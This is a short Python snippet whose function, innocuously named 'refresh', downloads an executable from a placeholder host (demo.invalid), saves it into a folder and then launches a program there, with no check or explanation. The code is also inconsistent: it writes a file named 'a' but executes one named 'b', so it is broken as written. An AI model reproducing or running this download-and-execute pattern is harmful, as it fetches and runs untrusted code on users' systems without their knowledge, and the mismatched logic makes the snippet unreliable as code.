import os
import subprocess
from urllib.request import urlopen


def refresh(folder):
    with open(os.path.join(folder, "a"), "wb") as file:
        file.write(urlopen("https://demo.invalid/a.exe").read())
    subprocess.Popen([os.path.join(folder, "b")])
